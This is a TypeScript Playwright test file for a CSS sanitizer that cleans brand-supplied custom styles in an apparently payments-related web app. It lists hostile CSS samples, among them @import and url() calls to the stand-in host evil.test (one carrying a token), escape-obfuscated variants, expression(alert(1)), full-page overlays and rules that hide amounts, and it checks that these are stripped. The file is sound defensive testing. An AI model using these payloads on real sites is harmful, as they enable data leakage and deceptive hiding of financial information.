import { join } from 'node:path';
import { browserScript } from '@mostrador/testing/browser-script';
import { expect, test } from '@mostrador/testing/playwright';
import type { Page } from '@playwright/test';

/** Runs the function in the browser, because its `CSSStyleSheet` parsing exists only there. */
async function cleaner(page: Page): Promise<(css: string) => Promise<string>> {
  const content = browserScript(join(import.meta.dirname, '../src/branding/custom-css.ts'), 'sanitizeCss');
  await page.goto('about:blank');
  await page.addScriptTag({ content });
  return (css) => page.evaluate((text) => (window as unknown as { sanitizeCss: (css: string) => string }).sanitizeCss(text), css);
}

const left = [
  '@import url("https://evil.test/x.css");',
  '@imp/**/ort "https://evil.test/x.css";',
  '@\\69mport "https://evil.test/x.css";',
  '.a { background: url(https://evil.test/?token) }',
  '.a { background: \\75rl(https://evil.test) }',
  '.a { --x: url(https://evil.test); background: var(--x) }',
  '.a { color: expression(alert(1)); behavior: url(x.htc) }',
  '@font-face { font-family: Poppins; src: url(https://evil.test/x.woff2) }',
  '.a { position: fixed; inset: 0; z-index: 99999 }',
  'html, body, #root { display: none; visibility: hidden; opacity: 0 }',
  '.h-shell { transform: translateX(-100%); margin-left: -100px }',
  '.m-card { box-shadow: 0 0 0 9999px #000 }',
  '.m-card { border-width: 99vw; border-top-width: 20px }',
  '.m-card { padding: calc(100% * 9) }',
  '.m-card { padding: 1e9px }',
  '.m-card { padding: 10px !important }',
  '.h-shell { --m-text: #fff }',
  '* { color: transparent }',
  '.m-money { font-size: 0 }',
  '* { line-height: 1000; font-size: 300px; letter-spacing: -1em; text-indent: -999px }',
  '.a { background: #000; color: #000; fill: #fff }',
  '@keyframes x { from { color: red } } .a { animation: x 1s }',
  '@layer brand, over; @layer over { .a { padding: 1px } }',
  '@media print { @media screen { .a { padding: 1px } } }',
  '.a { padding: 1px }'.repeat(2_000),
];

test('removes CSS that hides, moves, covers, loads or recolors, and keeps harmless styles', async ({ page }) => {
  const clean = await cleaner(page);
  for (const css of left) expect(await clean(css), css.slice(0, 80)).toBe('');
  const kept = await clean(`
    /* the brand's touch */
    .m-card, a:not(.plain) { border-top: 3px solid #0f6b5c; letter-spacing: 0.02em; position: fixed }
    h1 { font-family: "Archivo Black", sans-serif; text-transform: uppercase }
    @media (min-width: 600px) { .m-card { padding: 24px; border-radius: 4px } }
    } .open { color: red`);
  const reach = ':where(.h-main *:not(.m-money, .m-money *, .m-tag, .m-tag *))';
  expect(kept).toContain(`${reach}:is(.m-card, a:not(.plain)) { border-top-`);
  expect(kept).toContain('border-top-color: rgb(15, 107, 92);');
  expect(kept).toMatch(/border-top-width: 3px;.* letter-spacing: 0\.02em; }/);
  expect(kept).toContain(`h1) { font-family: "Archivo Black", sans-serif; text-transform: uppercase; }`);
  expect(kept).toMatch(/@media \(min-width: 600px\) {\n.*padding-top: 24px;.*border-bottom-left-radius: 4px;/);
  expect(kept).not.toMatch(/fixed|open/);
});

test("styles a brand's cards, but neither the shell nor amounts and statuses", async ({ page, keepSession, sandbox }) => {
  const own = await sandbox.ask<{ branding: { theme?: object } }>('GET', '/branding', {
    headers: { 'X-Brand-Host': 'localhost' },
  });
  const custom_css = `* { color: transparent; letter-spacing: 2px } .m-money { font-size: 0 } * { line-height: 1000 }
    main * { border-top: 7px solid rgb(1, 2, 3) } .h-topbar { padding: 40px }`;
  const body = { ...own, branding: { ...own.branding, theme: { ...own.branding.theme, custom_css } } };
  await sandbox.fault({ method: 'GET', path: '/branding', status: 200, body, times: 20 });
  await keepSession(page);
  await page.goto('/pagos/lista');
  const amount = page.locator('main .m-money').first();
  const status = page.locator('main .m-tag').first();
  await expect(amount).toBeVisible();
  await expect(page.locator('main h1')).toHaveCSS('border-top-width', '7px');
  for (const part of [amount, status]) {
    await expect(part).not.toHaveCSS('border-top-width', '7px');
    await expect(part).toHaveCSS('letter-spacing', 'normal');
    const { color, size } = await part.evaluate((element) => {
      const { color, fontSize } = getComputedStyle(element);
      return { color, size: Number.parseFloat(fontSize) };
    });
    expect(color).not.toMatch(/^rgba\(.*, 0\)$|transparent/);
    expect(size).toBeGreaterThan(10);
  }
  await expect(page.locator('.h-topbar')).not.toHaveCSS('padding-top', '40px');
});
